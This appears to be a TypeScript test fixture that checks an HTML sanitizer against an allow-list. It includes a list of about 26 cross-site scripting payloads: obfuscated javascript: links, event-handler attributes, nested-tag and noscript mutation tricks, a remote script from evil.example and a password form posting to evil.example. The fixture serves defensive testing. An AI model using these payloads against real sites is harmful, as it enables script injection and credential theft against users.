// What an attacker's formatted text may never bring through (decision 030), and the check that stored or shown
// HTML holds none of it: every tag is on the allow-list with only its own attributes, links go to http(s),
// mailto, tel or this site, pictures come from the site's stored files.
import { expect } from 'vitest';

/** Payloads of script, event attributes, hostile links and foreign frames, plain and obfuscated. */
export const ATTACKS: string[] = [
  '<p>a</p><script>alert(1)</script>',
  '<p><img src=x onerror=alert(1)></p>',
  '<p><img src="/uploads/abcdef.webp" onerror="alert(1)" onload="alert(2)"></p>',
  '<p><a href="javascript:alert(1)">click</a></p>',
  '<p><a href=" JaVaScRiPt:alert(1)">click</a></p>',
  '<p><a href="jav&#x09;ascript:alert(1)">tab</a><a href="java&#10;script:alert(1)">nl</a></p>',
  '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a></p>',
  '<p><a href="vbscript:msgbox(1)">vb</a><a href="//evil.example/">proto</a><a href="/\\evil.example">bs</a></p>',
  '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a></p>',
  '<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></p>',
  '<p><img src="https://evil.example/track.png"><img src="/uploads/../../etc/passwd"></p>',
  '<p>x</p><iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<p>x</p><svg onload=alert(1)><circle r="5"/></svg><svg><script>alert(1)</script></svg>',
  '<p>x</p><math><mi xlink:href="javascript:alert(1)">m</mi></math>',
  '<p style="background:url(javascript:alert(1))">s</p><style>body{display:none}</style>',
  '<p>x</p><form action="https://evil.example/"><input name="password"><button>Go</button></form>',
  '<scr<script>ipt>alert(1)</scr</script>ipt><p>nested</p>',
  '<p>x</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p>x</p><!--<script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>',
  '<p>x</p><details open ontoggle=alert(1)><summary>s</summary></details><body onload=alert(1)>',
  '<p>x</p><a href="https://ok.example/" onclick="alert(1)" target="_blank" style="x">ok</a>',
  '<p>x</p><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">',
  '<p>x</p><template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>',
  '<P>X</P><SCRIPT SRC=//evil.example/x.js></SCRIPT><IMG SRC=JaVaScRiPt:alert(1)>',
  '<p>x</p><video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<p>x</p><link rel="stylesheet" href="https://evil.example/x.css"><frameset onload=alert(1)>',
];

const ALLOWED: Record<string, string[]> = {
  p: [],
  br: [],
  strong: [],
  em: [],
  u: [],
  s: [],
  h2: [],
  h3: [],
  h4: [],
  ul: [],
  ol: [],
  li: [],
  blockquote: [],
  hr: [],
  a: ['href'],
  img: ['src', 'alt'],
};
const SAFE_HREF = /^(?:https?:\/\/[^\s"]+|mailto:[^\s"]+|tel:[^\s"]+|\/(?![/\\])[^\s"]*)$/i;
const OWN_PICTURE = /^\/uploads\/[a-z0-9][a-z0-9_-]*(?:\.[a-z0-9]+)?$/i;

/** Fails unless `html` holds only allow-listed tags and attributes with safe addresses. */
export function expectHarmless(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    const open = /^<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>$/i.exec(tag);
    expect(open, `a tag of another shape: ${tag} in ${html}`).not.toBeNull();
    const name = open![1]!.toLowerCase();
    expect(Object.keys(ALLOWED), `tag <${name}> in ${html}`).toContain(name);
    for (const [, attr, value] of open![2]!.matchAll(/\s+([a-z-]+)="([^"]*)"/gi)) {
      expect(ALLOWED[name], `attribute ${attr} of <${name}> in ${html}`).toContain(attr!.toLowerCase());
      if (attr === 'href') expect(value, html).toMatch(SAFE_HREF);
      if (attr === 'src') expect(value, html).toMatch(OWN_PICTURE);
    }
  }
  expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
}
